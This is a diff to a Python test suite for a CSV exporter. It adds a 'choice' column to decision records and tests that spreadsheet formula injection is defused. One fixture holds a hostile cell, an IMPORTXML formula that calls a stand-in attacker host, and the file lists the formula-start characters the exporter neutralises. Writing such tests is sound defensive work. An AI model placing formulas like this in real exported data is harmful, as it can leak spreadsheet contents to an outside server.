@@ -22,7 +22,7 @@ TABLES = ("gates", "risks", "decisions")
 LEADING = {
     "gates": ["feature", "id", "name", "status", "raw_status"],
     "risks": ["feature", "id", "description", "level", "probability", "raw_probability", "impact", "raw_impact"],
-    "decisions": ["feature", "id", "title", "status", "raw_status"],
+    "decisions": ["feature", "id", "title", "choice", "status", "raw_status"],
 }
 #: OWASP: a spreadsheet reads a cell starting with one of these as a formula.
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -171,7 +171,7 @@ def test_hostile_cells_round_trip_defused(hostile: Path) -> None:
     assert by_origin["plan-table"]["title"] == "'-Use the \"fast\" path, then cache"
     assert by_origin["plan-table"]["context"] == "'=1+1"
     research = by_origin["research"]
-    assert research["extra: decision"] == "'=IMPORTXML(\"http://attacker.test\", \"//a\")"
+    assert research["choice"] == "'=IMPORTXML(\"http://attacker.test\", \"//a\")"
     assert research["rationale"] == 'Fast, and "boring".'
     assert research["alternatives"] == "'- Files: simple\n- @Postgres: heavy"
 
@@ -244,9 +244,9 @@ def test_list_values_are_joined_then_defused() -> None:
 @given(texts=st.lists(st.text(), min_size=1, max_size=4), extra=st.dictionaries(st.text(), st.text(), max_size=3))
 def test_any_text_round_trips(texts: list[str], extra: dict[str, str]) -> None:
     records = [
-        {"feature": "f", "id": f"f/ADR-{n}", "local_id": f"ADR-{n}", "title": text, "status": "accepted",
-         "raw_status": text, "context": text, "rationale": "", "alternatives": text, "follow_up": "",
-         "origin": "plan-table", "source": {"path": "specs/f/plan.md", "line": n + 1}, "extra": extra}
+        {"feature": "f", "id": f"f/ADR-{n}", "local_id": f"ADR-{n}", "title": text, "choice": text,
+         "status": "accepted", "raw_status": text, "context": text, "rationale": "", "alternatives": text,
+         "follow_up": "", "origin": "plan-table", "source": {"path": "specs/f/plan.md", "line": n + 1}, "extra": extra}
         for n, text in enumerate(texts)
     ]
     parsed = list(csv.DictReader(io.StringIO(export_csv("decisions", {"decisions": records}), newline="")))
